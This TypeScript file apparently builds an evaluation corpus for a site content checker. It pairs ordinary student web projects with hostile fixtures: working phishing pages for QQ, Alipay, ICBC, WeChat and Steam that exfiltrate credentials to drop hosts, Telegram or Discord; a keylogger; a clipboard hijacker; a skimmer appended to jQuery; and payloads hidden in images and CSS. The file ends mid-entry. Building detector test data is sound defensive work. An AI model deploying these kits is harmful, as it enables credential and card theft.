/**
 * The tuning part of the evaluation corpus (docs/content-check.md "Evaluation"): ordinary sites
 * made the way people make them (builds, library files, embed snippets as providers publish them,
 * form and backend services) and hostile ones made the way kits are made. Rule changes may be
 * measured against this part; held-out.ts is the part they are not.
 */
import {
  BOOTSTRAP_CSS,
  BOOTSTRAP_JS,
  b64,
  charCodes,
  type EvalSite,
  esbuildBundle,
  JQUERY,
  obfuscate,
  page,
  pngWithText,
  type Rng,
  viteBuild,
} from './kit.js';

const LOGIN_FORM = (brand: string, lure: string, extra = '') => `
<div class="box"><h2>${brand} 安全中心</h2><p class="warn">${lure}</p>
<form id="f"><input name="u" id="u" placeholder="${brand} 账号 / 手机号">
<input type="password" name="p" id="p" placeholder="密码">${extra}
<button id="go" type="submit">登录并验证</button></form></div>`;

export async function ordinarySites(r: Rng): Promise<EvalSite[]> {
  const sites: EvalSite[] = [];
  const add = (name: string, what: string, files: EvalSite['files']) =>
    sites.push({ group: 'ordinary', name, what, files });

  add(
    'vite-counter',
    'Vite build (vanilla) fetching its own JSON',
    await viteBuild({
      'index.html': page('计数器', '', '<div id="app"></div><script type="module" src="/main.js"></script>'),
      'main.js': `import './style.css';\nconst app = document.querySelector('#app');\nlet n = 0;\nconst render = () => { app.innerHTML = '<h1>点击次数 ' + n + '</h1><button id="b">+1</button>'; document.querySelector('#b').onclick = () => { n++; render(); }; };\nrender();\nfetch('./data.json').then((r) => r.json()).then((d) => console.log(d.title)).catch(() => {});\n`,
      'style.css':
        'body { font-family: system-ui; background: #f5f5f5 }\n#app { margin: 40px auto; max-width: 480px }\n',
      'public/data.json': '{"title":"计数器"}',
    }),
  );

  const react = await esbuildBundle(
    `import { createRoot } from 'react-dom/client';\nimport { useState } from 'react';\nfunction App() { const [items, setItems] = useState(() => JSON.parse(localStorage.getItem('todos') || '[]')); const [text, setText] = useState('');\n  const add = (e) => { e.preventDefault(); const next = [...items, text]; setItems(next); localStorage.setItem('todos', JSON.stringify(next)); setText(''); };\n  return <main><h1>待办清单</h1><form onSubmit={add}><input value={text} onChange={(e) => setText(e.target.value)} placeholder="要做的事" /><button>添加</button></form><ul>{items.map((t, i) => <li key={i}>{t}</li>)}</ul></main>; }\ncreateRoot(document.getElementById('root')).render(<App />);\n`,
    { jsx: true },
  );
  add('esbuild-react-todo', 'React app bundled by esbuild (minified)', {
    'index.html': page('待办清单', '', '<div id="root"></div><script src="assets/app.js"></script>'),
    'assets/app.js': react,
  });

  add('jquery-bootstrap-local', 'real jQuery and Bootstrap files in the upload', {
    'index.html': page(
      '社团主页',
      '<link rel="stylesheet" href="css/bootstrap.min.css">',
      `<nav class="navbar navbar-expand bg-light"><a class="navbar-brand" href="#">摄影社</a></nav>
<div class="container"><div class="carousel slide" id="c" data-bs-ride="carousel"><div class="carousel-inner"><div class="carousel-item active"><img src="img/1.svg" alt="作品"></div></div></div>
<button class="btn btn-primary" data-bs-toggle="modal" data-bs-target="#m">加入我们</button>
<div class="modal" id="m"><div class="modal-dialog"><div class="modal-content"><p>每周三晚活动室见</p></div></div></div></div>
<script src="js/jquery.min.js"></script><script src="js/bootstrap.bundle.min.js"></script>
<script>$(function () { $('.navbar-brand').on('click', function () { $('html,body').animate({ scrollTop: 0 }); }); });</script>`,
    ),
    'css/bootstrap.min.css': BOOTSTRAP_CSS(),
    'js/jquery.min.js': JQUERY(),
    'js/bootstrap.bundle.min.js': BOOTSTRAP_JS(),
    'img/1.svg':
      '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40" fill="#ccc"/></svg>',
  });

  add('cdn-bootstrap-fonts', 'Bootstrap, jQuery and Font Awesome from CDNs, Google Fonts', {
    'index.html': page(
      '个人简历',
      `<link href="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css" rel="stylesheet">
<link rel="preconnect" href="https://fonts.googleapis.com"><link rel="preconnect" href="https://fonts.gstatic.com" crossorigin>
<link href="https://fonts.googleapis.com/css2?family=Noto+Sans+SC:wght@400;700&display=swap" rel="stylesheet">
<link rel="stylesheet" href="https://cdnjs.cloudflare.com/ajax/libs/font-awesome/6.5.1/css/all.min.css">`,
      `<div class="container"><h1>张三</h1><p><i class="fa fa-envelope"></i> zhangsan@example.com</p></div>
<script src="https://cdn.bootcdn.net/ajax/libs/jquery/3.7.1/jquery.min.js"></script>
<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/js/bootstrap.bundle.min.js"></script>`,
    ),
  });

  const gaId = `G-${r.word(10).toUpperCase()}`;
  add('gtag-analytics', 'Google Analytics snippet as Google publishes it', {
    'index.html': page(
      '作品集',
      `<!-- Google tag (gtag.js) -->
<script async src="https://www.googletagmanager.com/gtag/js?id=${gaId}"></script>
<script>
  window.dataLayer = window.dataLayer || [];
  function gtag(){dataLayer.push(arguments);}
  gtag('js', new Date());

  gtag('config', '${gaId}');
</script>`,
      '<h1>我的作品</h1><p>欢迎参观。</p>',
    ),
  });

  add('baidu-tongji', '百度统计 snippet as Baidu publishes it', {
    'index.html': page(
      '班级相册',
      `<script>
var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com/hm.js?${r.word(32)}";
  var s = document.getElementsByTagName("script")[0]; 
  s.parentNode.insertBefore(hm, s);
})();
</script>`,
      '<h1>高三（2）班</h1><img src="a.svg" alt="合影">',
    ),
    'a.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"/>',
  });

  add('umami-plausible-clarity', 'three more analytics snippets', {
    'index.html': page(
      '读书笔记',
      `<script defer src="https://cloud.umami.is/script.js" data-website-id="${r.word(8)}-${r.word(4)}-${r.word(4)}-${r.word(4)}-${r.word(12)}"></script>
<script defer data-domain="notes.example.org" src="https://plausible.io/js/script.js"></script>
<script type="text/javascript">
    (function(c,l,a,r,i,t,y){
        c[a]=c[a]||function(){(c[a].q=c[a].q||[]).push(arguments)};
        t=l.createElement(r);t.async=1;t.src="https://www.clarity.ms/tag/"+i;
        y=l.getElementsByTagName(r)[0];y.parentNode.insertBefore(t,y);
    })(window, document, "clarity", "script", "${r.word(10)}");
</script>`,
      '<article><h1>《三体》读后感</h1><p>……</p></article>',
    ),
  });

  add('video-embeds', 'YouTube and bilibili players', {
    'index.html': page(
      '舞蹈社',
      '',
      `<h1>年度汇演</h1>
<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=${r.word(16)}" title="YouTube video player" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>
<iframe src="//player.bilibili.com/player.html?isOutside=true&aid=${r.int(1e9)}&bvid=BV1${r.word(9)}&cid=${r.int(1e9)}&p=1" scrolling="no" border="0" frameborder="no" framespacing="0" allowfullscreen="true"></iframe>`,
    ),
  });

  add('maps', 'Google Maps iframe, Leaflet with OpenStreetMap tiles', {
    'index.html': page(
      '校园地图',
      '<link rel="stylesheet" href="https://unpkg.com/leaflet@1.9.4/dist/leaflet.css"><script src="https://unpkg.com/leaflet@1.9.4/dist/leaflet.js"></script>',
      `<iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d3022.2!2d-73.98!3d40.75" width="600" height="450" style="border:0;" allowfullscreen="" loading="lazy" referrerpolicy="no-referrer-when-downgrade"></iframe>
<div id="map" style="height:300px"></div>
<script>if (window.L) { var map = L.map('map').setView([39.99, 116.31], 16); L.tileLayer('https://tile.openstreetmap.org/{z}/{x}/{y}.png', { maxZoom: 19 }).addTo(map); }</script>`,
    ),
  });

  add('comment-widgets', 'giscus and utterances', {
    'index.html': page(
      '技术博客',
      '',
      `<article><h1>用 Rust 写一个解释器</h1><p>……</p></article>
<script src="https://giscus.app/client.js" data-repo="someone/blog" data-repo-id="R_${r.word(10)}" data-category="Announcements" data-category-id="DIC_${r.word(12)}" data-mapping="pathname" data-strict="0" data-reactions-enabled="1" data-emit-metadata="0" data-input-position="bottom" data-theme="preferred_color_scheme" data-lang="zh-CN" crossorigin="anonymous" async></script>
<script src="https://utteranc.es/client.js" repo="someone/blog" issue-term="pathname" theme="github-light" crossorigin="anonymous" async></script>`,
    ),
  });

  add('formspree-contact', 'contact form sent to Formspree by fetch', {
    'index.html': page(
      '联系我',
      '',
      `<form id="contact" action="https://formspree.io/f/${r.word(8)}" method="POST">
<label>邮箱 <input type="email" name="email"></label><label>留言 <textarea name="message"></textarea></label><button type="submit">发送</button></form><p id="status"></p>
<script>
var form = document.getElementById("contact");
async function handleSubmit(event) {
  event.preventDefault();
  var status = document.getElementById("status");
  var data = new FormData(event.target);
  fetch(event.target.action, { method: form.method, body: data, headers: { 'Accept': 'application/json' } })
    .then(response => { status.innerHTML = response.ok ? "谢谢！" : "出错了"; form.reset(); })
    .catch(error => { status.innerHTML = "出错了"; });
}
form.addEventListener("submit", handleSubmit);
</script>`,
    ),
  });

  add('google-forms-signup', 'sign-up posting to Google Forms (name, e-mail)', {
    'index.html': page(
      '社团招新报名',
      '',
      `<h1>编程社招新</h1><form action="https://docs.google.com/forms/d/e/1FAIpQL${r.word(20)}/formResponse" method="POST" target="_blank">
<input name="entry.${r.int(1e9)}" placeholder="姓名"><input name="entry.${r.int(1e9)}" type="email" placeholder="邮箱"><input name="entry.${r.int(1e9)}" placeholder="学号"><button>报名</button></form>`,
    ),
  });

  add('mailchimp-embed', 'Mailchimp embedded sign-up form as Mailchimp publishes it', {
    'index.html': page(
      '新闻简报',
      '<link href="//cdn-images.mailchimp.com/embedcode/classic-061523.css" rel="stylesheet" type="text/css">',
      `<div id="mc_embed_shell"><div id="mc_embed_signup">
<form action="https://example.us21.list-manage.com/subscribe/post?u=${r.word(25)}&amp;id=${r.word(10)}&amp;f_id=00${r.word(6)}" method="post" id="mc-embedded-subscribe-form" name="mc-embedded-subscribe-form" class="validate" target="_blank">
<div id="mc_embed_signup_scroll"><h2>订阅</h2><div class="mc-field-group"><label for="mce-EMAIL">Email Address <span class="asterisk">*</span></label><input type="email" name="EMAIL" class="required email" id="mce-EMAIL" required="" value=""></div>
<div aria-hidden="true" style="position: absolute; left: -5000px;"><input type="text" name="b_${r.word(25)}_${r.word(10)}" tabindex="-1" value=""></div>
<div class="clear"><input type="submit" name="subscribe" id="mc-embedded-subscribe" class="button" value="Subscribe"></div></div></form></div>
<script type="text/javascript" src="//s3.amazonaws.com/downloads.mailchimp.com/js/mc-validate.js"></script><script type="text/javascript">(function($) {window.fnames = new Array(); window.ftypes = new Array();fnames[0]='EMAIL';ftypes[0]='email';}(jQuery));var $mcj = jQuery.noConflict(true);</script></div>`,
    ),
  });

  add('firebase-login', 'course project: Firebase Auth sign-in (SDK from gstatic)', {
    'index.html': page(
      '课程设计：在线笔记',
      '',
      `<form id="login"><input id="email" type="email" placeholder="邮箱"><input id="password" type="password" placeholder="密码"><button>登录</button></form><p id="msg"></p>
<script type="module">
  import { initializeApp } from "https://www.gstatic.com/firebasejs/10.12.2/firebase-app.js";
  import { getAuth, signInWithEmailAndPassword } from "https://www.gstatic.com/firebasejs/10.12.2/firebase-auth.js";
  const firebaseConfig = { apiKey: "AIzaSy${r.word(33)}", authDomain: "notes-${r.word(5)}.firebaseapp.com", projectId: "notes-${r.word(5)}", storageBucket: "notes.appspot.com", messagingSenderId: "${r.int(1e11)}", appId: "1:${r.int(1e11)}:web:${r.word(20)}" };
  const app = initializeApp(firebaseConfig);
  const auth = getAuth(app);
  document.getElementById('login').addEventListener('submit', async (e) => {
    e.preventDefault();
    try { await signInWithEmailAndPassword(auth, document.getElementById('email').value, document.getElementById('password').value); location.href = 'notes.html'; }
    catch (err) { document.getElementById('msg').textContent = '登录失败：' + err.code; }
  });
</script>`,
    ),
    'notes.html': page('笔记', '', '<h1>我的笔记</h1>'),
  });

  add('supabase-login', 'Supabase sign-in (supabase-js from jsDelivr)', {
    'index.html': page(
      '小组作业：失物招领',
      '<script src="https://cdn.jsdelivr.net/npm/@supabase/supabase-js@2"></script>',
      `<form id="f"><input id="email" placeholder="邮箱"><input id="pw" type="password" placeholder="密码"><button>登录</button></form>
<script>
const client = supabase.createClient('https://${r.word(20)}.supabase.co', 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.${r.word(40)}');
document.getElementById('f').onsubmit = async (e) => { e.preventDefault();
  const { error } = await client.auth.signInWithPassword({ email: document.getElementById('email').value, password: document.getElementById('pw').value });
  alert(error ? error.message : '登录成功'); };
</script>`,
    ),
  });

  add('pwa', 'installable PWA: manifest and a caching service worker', {
    'index.html': page(
      '番茄钟',
      '<link rel="manifest" href="manifest.webmanifest"><meta name="theme-color" content="#d33">',
      `<h1 id="t">25:00</h1><button id="s">开始</button>
<script>if ('serviceWorker' in navigator) navigator.serviceWorker.register('sw.js');
let left = 1500, timer; document.getElementById('s').onclick = () => { clearInterval(timer); timer = setInterval(() => { left--; document.getElementById('t').textContent = String(Math.floor(left / 60)).padStart(2, '0') + ':' + String(left % 60).padStart(2, '0'); }, 1000); };</script>`,
    ),
    'manifest.webmanifest': JSON.stringify({
      name: '番茄钟',
      start_url: '.',
      display: 'standalone',
      icons: [],
    }),
    'sw.js':
      "const C = 'v1';\nself.addEventListener('install', (e) => e.waitUntil(caches.open(C).then((c) => c.addAll(['./', 'index.html']))));\nself.addEventListener('fetch', (e) => e.respondWith(caches.match(e.request).then((r) => r || fetch(e.request))));\n",
  });

  add('obfuscated-game', 'homework game run through javascript-obfuscator (heavy)', {
    'index.html': page(
      '打地鼠',
      '<style>.hole{display:inline-block;width:60px;height:60px;margin:4px;background:#964}</style>',
      '<h1>打地鼠</h1><p>得分 <span id="score">0</span></p><div id="board"></div><script src="game.js"></script>',
    ),
    'game.js': await obfuscate(
      `var score = 0; var board = document.getElementById('board');
for (var i = 0; i < 9; i++) { var h = document.createElement('div'); h.className = 'hole'; h.dataset.i = i; board.appendChild(h); }
var mole = -1; setInterval(function () { var holes = document.querySelectorAll('.hole'); if (mole >= 0) holes[mole].textContent = ''; mole = Math.floor(Math.random() * 9); holes[mole].textContent = '🐹'; }, 800);
board.addEventListener('click', function (e) { if (e.target.dataset.i == mole) { score++; document.getElementById('score').textContent = score; localStorage.setItem('best', Math.max(score, +localStorage.getItem('best') || 0)); } });
document.addEventListener('keydown', function (e) { if (e.key === 'r') { score = 0; document.getElementById('score').textContent = 0; } });`,
      r.int(1e6),
    ),
  });

  add('ctf-club', 'CTF club page with an encoded challenge checked in the browser', {
    'index.html': page(
      'CTF 战队招新',
      '',
      `<h1>0xCAFE 战队</h1><p>解出下面的题目即可获得面试资格。</p><pre>密文：${b64('flag{w3lc0me_t0_ctf}').split('').reverse().join('')}</pre>
<input id="flag" placeholder="flag{...}"><button onclick="check()">提交</button>
<script>
var _0x = ["\\x66\\x6c\\x61\\x67", "\\x63\\x6f\\x72\\x72\\x65\\x63\\x74"];
function check() { var v = document.getElementById('flag').value; var ans = atob("${b64('flag{w3lc0me_t0_ctf}')}");
  alert(v === ans ? '正确！请加群' : '再想想'); }
console.log('%c hint: view source', 'color:red');
</script>`,
    ),
  });

  add('anti-fraud-campaign', 'anti-fraud campaign page quoting scam phrases, police hotline', {
    'index.html': page(
      '反诈宣传周',
      '',
      `<h1>警惕电信网络诈骗</h1>
<p>常见套路：刷单返利、先垫付再返利、"解冻费"、"保证金"、投资理财"保本保息""日收益5%"、网络赌博"首存送彩金"。</p>
<p>凡是要求先转账、扫码付款、下载陌生 App 的，都是诈骗！</p>
<p>如遇可疑情况，请拨打 96110 或关注微信公众号：国家反诈中心。</p><img src="poster.svg" alt="反诈宣传海报">`,
    ),
    'poster.svg':
      '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80"><text y="40">反诈</text></svg>',
  });

  add('course-login-demo', 'course login page validated in the browser, action="#"', {
    'index.html': page(
      '图书管理系统',
      '',
      `<form action="#" onsubmit="return login()"><input id="user" placeholder="用户名"><input id="pwd" type="password" placeholder="密码"><button>登录</button></form>
<script>function login() { var u = document.getElementById('user').value, p = document.getElementById('pwd').value;
  if (u === 'admin' && p === '123456') { sessionStorage.setItem('user', u); location.href = 'home.html'; } else alert('用户名或密码错误'); return false; }</script>`,
    ),
    'home.html': page('首页', '', '<h1>欢迎</h1>'),
  });

  add('weather-api', 'weather demo querying a public API by GET', {
    'index.html': page(
      '天气',
      '',
      `<h1>北京天气</h1><p id="w">加载中</p><script>
fetch('https://api.open-meteo.com/v1/forecast?latitude=39.9&longitude=116.4&current_weather=true').then(r => r.json()).then(d => { document.getElementById('w').textContent = d.current_weather.temperature + '℃'; }).catch(() => { document.getElementById('w').textContent = '加载失败'; });
</script>`,
    ),
  });

  add('hexo-blog', 'static blog: busuanzi counter, highlight.js from cdnjs, Font Awesome', {
    'index.html': page(
      '小明的博客',
      '<link rel="stylesheet" href="https://cdnjs.cloudflare.com/ajax/libs/highlight.js/11.9.0/styles/default.min.css"><script src="https://cdnjs.cloudflare.com/ajax/libs/highlight.js/11.9.0/highlight.min.js"></script>',
      `<article><h1>Hello World</h1><pre><code>console.log(1)</code></pre></article>
<span id="busuanzi_container_site_pv">本站总访问量<span id="busuanzi_value_site_pv"></span>次</span>
<script async src="//busuanzi.ibruce.info/busuanzi/2.3/busuanzi.pure.mini.js"></script><script>window.hljs && hljs.highlightAll();</script>`,
    ),
  });

  add('esbuild-split-app', 'esbuild build of a dashboard: charts drawn on canvas, data from a local file', {
    'index.html': page(
      '数据看板',
      '',
      '<canvas id="c" width="600" height="300"></canvas><script src="dist/main.js"></script>',
    ),
    'dist/main.js': await esbuildBundle(
      `const ctx = document.getElementById('c').getContext('2d');\nfetch('data/sales.json').then((r) => r.json()).then((rows) => rows.forEach((v, i) => { ctx.fillStyle = '#36c'; ctx.fillRect(20 + i * 50, 280 - v, 30, v); }));\nwindow.addEventListener('resize', () => console.log(innerWidth));\n`,
    ),
    'data/sales.json': '[120,80,200,150,90]',
  });

  add('survey-choices', 'survey with a list, radio buttons and checkboxes, sent to Google Forms', {
    'index.html': page(
      '课程满意度调查',
      '',
      `<h1>课程满意度调查</h1><form action="https://docs.google.com/forms/d/e/1FAIpQL${r.word(20)}/formResponse" method="POST" target="_blank">
<select name="entry.${r.int(1e9)}" required><option value="">请选择年级</option><option>大一</option><option>大二</option></select>
<label><input type="radio" name="entry.${r.int(1e9)}" value="满意" required>满意</label><label><input type="radio" name="entry.2" value="一般">一般</label>
<label><input type="checkbox" name="entry.${r.int(1e9)}" value="作业">作业</label><label><input type="checkbox" name="entry.4" value="实验">实验</label>
<textarea name="entry.${r.int(1e9)}" placeholder="建议"></textarea><button>提交</button></form>`,
    ),
  });

  add('frame-widget', 'page with a calculator and a contact form in frames of its own', {
    'index.html': page(
      '数学小工具',
      '',
      '<h1>小工具</h1><iframe src="calc.html" width="320" height="200"></iframe><iframe src="contact.html" width="320" height="200"></iframe>',
    ),
    'calc.html': page(
      '计算器',
      '',
      `<input id="a" type="number"> + <input id="b" type="number"> <button id="eq">=</button> <span id="r"></span>
<script>document.getElementById('eq').onclick = function () { document.getElementById('r').textContent = (+document.getElementById('a').value) + (+document.getElementById('b').value); };</script>`,
    ),
    'contact.html': page(
      '反馈',
      '',
      `<form id="c" action="https://formspree.io/f/${r.word(8)}" method="POST"><input type="email" name="email" placeholder="邮箱"><textarea name="message"></textarea><button>发送</button></form>
<script>document.getElementById('c').onsubmit = function (e) { e.preventDefault(); fetch(this.action, { method: 'POST', body: new FormData(this), headers: { Accept: 'application/json' } }); };</script>`,
    ),
  });

  add('dns-prefetch-cdn', 'blog with DNS-prefetch and preconnect hints to its CDNs and analytics', {
    'index.html': page(
      '旅行日记',
      `<link rel="dns-prefetch" href="//cdn.bootcdn.net"><link rel="dns-prefetch" href="//hm.baidu.com"><link rel="preconnect" href="https://fonts.loli.net" crossorigin>
<link rel="prefetch" href="page2.html">`,
      '<article><h1>云南七日</h1><p>……</p><a href="page2.html">下一篇</a></article><input placeholder="搜索文章" id="q">',
    ),
    'page2.html': page('第二篇', '', '<h1>西藏</h1>'),
  });

  add('floating-labels', 'sign-up form whose script mirrors values for CSS floating labels', {
    'index.html': page(
      '社团报名',
      `<link href="https://fonts.googleapis.com/css2?family=Noto+Sans+SC&display=swap" rel="stylesheet"><style>
.f { position: relative; margin: 12px 0 } .f label { position: absolute; left: 8px; top: 8px; transition: .2s }
.f input:not([value=""]) + label { top: -10px; font-size: 12px } .f input[value=""] { background: url(img/pen.svg) no-repeat right center }</style>`,
      `<form id="s"><div class="f"><input name="name" value=""><label>姓名</label></div><div class="f"><input name="phone" type="tel" value=""><label>手机号</label></div><button>报名</button></form>
<script>document.querySelectorAll('.f input').forEach(function (i) { i.addEventListener('input', function () { i.setAttribute('value', i.value); }); });
document.getElementById('s').onsubmit = function (e) { e.preventDefault(); localStorage.setItem('signup', JSON.stringify({ name: this.name.value })); alert('已报名'); };</script>`,
    ),
    'img/pen.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>',
  });

  add('responsive-menu', 'responsive page reading matchMedia and the window size for its menu', {
    'index.html': page(
      '校园歌手大赛',
      '<style>@media (max-width: 600px) { nav a { display: block } }</style>',
      `<nav><button id="m" style="display:none">菜单</button><a href="#a">赛程</a><a href="#b">报名</a></nav><h1>校园歌手大赛</h1>
<script>var mq = window.matchMedia('(max-width: 600px)'); function set() { document.getElementById('m').style.display = mq.matches ? 'block' : 'none'; } set(); mq.addEventListener('change', set);
if (/Android|iPhone/i.test(navigator.userAgent)) document.body.classList.add('touch'); window.addEventListener('resize', function () { console.log(innerWidth); });</script>`,
    ),
  });

  return sites;
}

export async function hostileSites(r: Rng): Promise<EvalSite[]> {
  const sites: EvalSite[] = [];
  const add = (name: string, what: string, files: EvalSite['files']) =>
    sites.push({ group: 'hostile', name, what, files });

  const drop = () => `https://${r.host()}/${r.word(5)}`;

  add('qq-phish-fetch', 'QQ phishing posting JSON by fetch', {
    'index.html': page(
      'QQ安全中心',
      '',
      `${LOGIN_FORM('QQ', '您的账号存在异常登录，已被临时冻结，请立即验证身份')}
<script>document.getElementById('f').addEventListener('submit', function (e) { e.preventDefault();
  fetch('${drop()}', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ u: document.getElementById('u').value, p: document.getElementById('p').value }) })
  .finally(function () { location.href = 'https://im.qq.com/'; }); });</script>`,
    ),
  });

  add('alipay-phish-xhr', 'Alipay phishing, XHR with a split host', {
    'index.html': page(
      '支付宝 - 账户验证',
      '',
      `${LOGIN_FORM('支付宝', '您的账户已被限制收款，请完成实名验证后恢复', '<input name="card" placeholder="银行卡号"><input name="idno" placeholder="身份证号">')}
<script>var h = 'ht' + 'tps://' + '${r.word(6)}' + '.' + 'xyz/a'; document.getElementById('f').onsubmit = function () { var x = new XMLHttpRequest(); x.open('POST', h); x.send(new FormData(this)); return false; };</script>`,
    ),
  });

  add('bank-phish-beacon', 'bank phishing with sendBeacon to an encoded host', {
    'index.html': page(
      '中国工商银行 网上银行',
      '',
      `${LOGIN_FORM('工商银行', '系统升级，请重新验证身份，否则账户将被冻结', '<input name="sms" placeholder="短信验证码">')}
<script src="v.js"></script>`,
    ),
    'v.js': `(function(){var t=atob("${b64(drop())}");document.getElementById("f").addEventListener("submit",function(e){e.preventDefault();var d={};new FormData(e.target).forEach(function(v,k){d[k]=v});navigator.sendBeacon(t,JSON.stringify(d));setTimeout(function(){location.href="https://www.icbc.com.cn"},300)})})();`,
  });

  add('wechat-phish-websocket', 'WeChat phishing over WebSocket', {
    'index.html': page(
      '微信安全验证',
      '',
      `${LOGIN_FORM('微信', '检测到您的微信在异地登录，请验证身份')}
<script>var ws = new WebSocket('wss://${r.host()}/s'); document.getElementById('f').onsubmit = function (e) { e.preventDefault(); ws.send(document.getElementById('u').value + ':' + document.getElementById('p').value); };</script>`,
    ),
  });

  add('image-beacon-phish', '163 mail phishing via new Image().src', {
    'index.html': page(
      '网易邮箱 - 安全登录',
      '',
      `${LOGIN_FORM('网易邮箱', '您的邮箱容量已满，登录验证后可领取 10G 扩容')}
<script>document.getElementById('f').onsubmit = function () { new Image().src = '${drop()}?d=' + btoa(this.u.value + '|' + this.p.value); setTimeout(function(){ location.href = 'https://mail.163.com'; }, 500); return false; };</script>`,
    ),
  });

  add('google-forms-password', 'password form posting to Google Forms', {
    'index.html': page(
      '学校统一身份认证',
      '',
      `<h2>统一身份认证</h2><p>您的账号即将过期，请重新验证。</p><form action="https://docs.google.com/forms/d/e/1FAIpQL${r.word(20)}/formResponse" method="POST">
<input name="entry.${r.int(1e9)}" placeholder="学号"><input type="password" name="entry.${r.int(1e9)}" placeholder="密码"><button>验证</button></form>`,
    ),
  });

  add('telegram-drop', 'credentials to a Telegram bot', {
    'index.html': page(
      '京东 - 账户安全',
      '',
      `${LOGIN_FORM('京东', '您的账户存在风险，已被冻结，请验证身份')}
<script>const T = '${r.int(1e9)}:AA${r.word(33)}', C = '${r.int(1e9)}';
document.getElementById('f').onsubmit = (e) => { e.preventDefault(); fetch('https://api.telegram.org/bot' + T + '/sendMessage?chat_id=' + C + '&text=' + encodeURIComponent(e.target.u.value + ' ' + e.target.p.value)); };</script>`,
    ),
  });

  add('discord-drop', 'credentials to a Discord webhook', {
    'index.html': page(
      'Steam 社区 - 登录',
      '',
      `${LOGIN_FORM('Steam', 'Your account will be suspended. Verify your account now')}
<script>document.getElementById('f').onsubmit = async (e) => { e.preventDefault(); await fetch('https://discord.com/api/webhooks/${r.int(1e12)}/${r.word(40)}', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ content: e.target.u.value + ':' + e.target.p.value }) }); };</script>`,
    ),
  });

  add('paste-drop', 'credentials to a paste site API', {
    'index.html': page(
      '抖音 - 创作者登录',
      '',
      `${LOGIN_FORM('抖音', '您的创作者账号已被限流，验证后恢复')}
<script>document.getElementById('f').onsubmit = function (e) { e.preventDefault(); var b = new URLSearchParams({ api_dev_key: '${r.word(32)}', api_option: 'paste', api_paste_code: this.u.value + ':' + this.p.value }); fetch('https://pastebin.com/api/api_post.php', { method: 'POST', body: b, mode: 'no-cors' }); };</script>`,
    ),
  });

  add('keylogger', 'keylogger buffering keys, flushed by fetch', {
    'index.html': page(
      '在线文档',
      '',
      '<textarea rows="10" cols="60"></textarea><script src="editor.js"></script>',
    ),
    'editor.js': `var buf = ''; var dst = ${JSON.stringify(drop())};
document.addEventListener('keydown', function (e) { buf += e.key; if (buf.length > 20) { fetch(dst, { method: 'POST', body: buf, mode: 'no-cors' }); buf = ''; } });`,
  });

  add('clipboard-hijack', 'clipboard hijacker swapping wallet addresses and reporting them', {
    'index.html': page(
      'USDT 钱包工具',
      '',
      `<h1>地址簿</h1><input id="a" placeholder="粘贴收款地址"><script>
document.addEventListener('copy', function (e) { e.clipboardData.setData('text/plain', 'T${r.word(33)}'); e.preventDefault(); });
document.addEventListener('paste', function (e) { var t = e.clipboardData.getData('text'); new Image().src = '${drop()}?c=' + encodeURIComponent(t); });
</script>`,
    ),
  });

  add('skimmer-in-jquery', 'card skimmer appended to the real jquery.min.js', {
    'index.html': page(
      '结账 - 小店',
      '',
      `<h1>结账</h1><form id="pay"><input name="cardnumber" placeholder="卡号"><input name="exp" placeholder="有效期"><input name="cvc" placeholder="CVC"><button>支付</button></form><script src="js/jquery.min.js"></script><script>$('#pay').on('submit', function () { alert('支付成功'); return false; });</script>`,
    ),
    'js/jquery.min.js': `${JQUERY()}\n;(function(){var _u=atob("${b64(drop())}");jQuery(document).on("submit","form",function(){var s=jQuery(this).serialize();var i=new Image();i.src=_u+"?p="+btoa(s)})})();`,
  });

  add('obfuscated-phish', 'phishing exfil run through javascript-obfuscator', {
    'index.html': page(
      '中国移动 积分兑换',
      '',
      `${LOGIN_FORM('中国移动', '您的积分即将清零，请登录领取兑换 500 元话费', '<input name="card" placeholder="银行卡号">')}<script src="app.js"></script>`,
    ),
    'app.js': await obfuscate(
      `document.getElementById('f').addEventListener('submit', function (e) { e.preventDefault(); var d = new FormData(e.target); var o = {}; d.forEach(function (v, k) { o[k] = v; }); fetch('${drop()}', { method: 'POST', body: JSON.stringify(o) }); });`,
      r.int(1e6),
    ),
  });

  const payload = `fetch(${JSON.stringify(drop())},{method:"POST",body:document.cookie+"|"+navigator.userAgent+"|"+localStorage.length})`;
  add('code-in-pixels', 'payload hidden in an image, decoded through a canvas and run', {
    'index.html': page(
      '壁纸下载',
      '',
      `<img id="i" src="bg.png" style="display:none"><h1>高清壁纸</h1><script>
var img = document.getElementById('i'); img.onload = function () { var c = document.createElement('canvas'); c.width = img.width; c.height = img.height; var x = c.getContext('2d'); x.drawImage(img, 0, 0);
var d = x.getImageData(0, 0, c.width, c.height).data, b = []; for (var i = 0; i < d.length; i += 4) b.push(d[i], d[i + 1], d[i + 2]);
var n = (b[0] << 16) | (b[1] << 8) | b[2]; var s = new TextDecoder().decode(new Uint8Array(b.slice(3, 3 + n))); (new Function(s))(); };
</script>`,
    ),
    'bg.png': await pngWithText(payload),
  });

  add('code-in-css-var', 'payload in a CSS custom property, read and evaluated', {
    'index.html': page(
      '主题商店',
      `<style>:root { --theme-data: "${b64(payload)}"; }</style>`,
      `<h1>主题</h1><script>var v = getComputedStyle(document.documentElement).getPropertyValue('--theme-data').trim().slice(1, -1); window['ev' + 'al'](atob(v));</script>`,
    ),
  });

  add('blob-module-import', 'payload imported as a blob: module', {
    'index.html': page(
      '在线工具箱',
      '',
      `<h1>工具箱</h1><script type="module">const src = atob('${b64(payload)}'); const u = URL.createObjectURL(new Blob([src], { type: 'text/javascript' })); await import(u);</script>`,
    ),
  });

  add('data-module-import', 'payload imported from a data: URL', {
    'index.html': page(
      '小游戏合集',
      '',
